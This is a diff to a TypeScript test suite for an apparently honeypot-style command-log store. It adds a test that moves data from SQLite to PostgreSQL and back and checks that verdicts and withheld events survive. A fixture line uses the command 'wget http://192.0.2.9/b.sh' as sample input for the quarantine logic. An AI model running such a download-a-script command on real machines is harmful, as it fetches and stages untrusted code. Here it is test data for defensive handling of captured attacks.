@@ -5,11 +5,12 @@ import { setTimeout as delay } from 'node:timers/promises'
 import pg from 'pg'
 import type { Verdict } from '../../src/core/verdict.ts'
 import { approve, reject } from '../../src/pipeline/quarantine.ts'
-import { verifyStore } from '../../src/pipeline/verify.ts'
+import { type Verdict as Verification, verifyStore } from '../../src/pipeline/verify.ts'
 import type { JournalDraft } from '../../src/store/journal.ts'
 import type { Store, VerdictChange } from '../../src/store/port.ts'
 import { Names } from '../../src/store/postgres/names.ts'
 import type { PostgresStore } from '../../src/store/postgres/store.ts'
+import { moveStore } from '../../src/store/transfer/move.ts'
 import { ENGINES } from '../support/engines.ts'
 import {
   events,
@@ -20,6 +21,7 @@ import {
   VERIFY_ALL,
   VERSIONS,
   withLimits,
+  withTempFolder,
 } from '../support/loading.ts'
 import { missingPostgres } from '../support/postgres.ts'
 
@@ -256,6 +258,59 @@ describe('PostgreSQL', { skip: missingPostgres }, () => {
     assert.deepEqual(wrong, [])
   })
 
+  test('a move from SQLite and back keeps verdicts, withheld events and what was decided on them', async () => {
+    const sqlite = ENGINES.find((one) => one.name === 'sqlite')!
+    await using origin = await Lab.open(sqlite)
+    // One session has stored and withheld events, one has odd letters and is withheld whole.
+    origin.write('a.json', lines([...commands(300), ...events(20, { session: 'both' })]))
+    await origin.load({ holdHazard: NONE })
+    const more = [
+      ...commands(9, { session: 'both' }),
+      ...commands(8, { session: 'ODD', sensor: 'another' }),
+      ...commands(40, { session: 'a00000000001' }),
+    ]
+    origin.write('b.json', lines(more))
+    await origin.load({ holdHazard: ALL })
+    const batchId = await origin.store.reads().newestBatch()
+    const writer = origin.store.writer(VERSIONS)
+    await approve(origin.store.reads(), writer, registry, decision(batchId, [0, 1, 9, 20, 30]))
+    await writer.close()
+    await reject(origin.store.reads(), origin.store.review, decision(batchId, [2, 10, 21]))
+    await origin.store.review.setMode('emergency', 'on', emergency('on'))
+    await origin.store.review.addMetrics({ figure: 7 })
+    assert.deepEqual(await problemsOf(origin), [])
+
+    await using there = await Lab.open(engine)
+    const move = async (from: Store, to: Store): Promise<readonly string[]> => {
+      const { problems } = await moveStore({
+        from,
+        to,
+        command: 'test',
+        signal: new AbortController().signal,
+        progress: () => {},
+        verify: async (reads) => problemsIn(await verifyStore(reads, VERIFY_ALL)),
+      })
+      return problems
+    }
+    assert.deepEqual(await move(origin.store, there.store), [])
+    await withTempFolder(async (folder) => {
+      const back = await (await sqlite.create(folder)).open('write')
+      try {
+        assert.deepEqual(await move(there.store, back), [])
+      } finally {
+        await back.close()
+      }
+    })
+    // A load goes on, and numbers of verdicts with it.
+    await there.store.review.setMode('emergency', 'off', emergency('off'))
+    there.write(
+      'c.json',
+      lines(commands(60, { session: 'ODD', input: 'wget http://192.0.2.9/b.sh' })),
+    )
+    assert.equal((await there.load({ holdHazard: ALL })).totals.held, 60)
+    assert.deepEqual(await problemsOf(there), [])
+  })
+
   test('a key that several loaders bring at once is made known once', async () => {
     await using lab = await Lab.open(engine)
     const key = { keyId: '00112233445566ff', publicKey: new Uint8Array(32) }
@@ -344,7 +399,10 @@ function spelled(of: readonly Fields[], n: number): string {
 }
 
 async function problemsOf(lab: Lab): Promise<readonly string[]> {
-  const verdict = await verifyStore(lab.store.reads(), VERIFY_ALL)
+  return problemsIn(await verifyStore(lab.store.reads(), VERIFY_ALL))
+}
+
+function problemsIn(verdict: Verification): readonly string[] {
   return [verdict.summaries, verdict.view, verdict.seals, verdict.journal].flatMap(
     (one) => one.problems,
   )
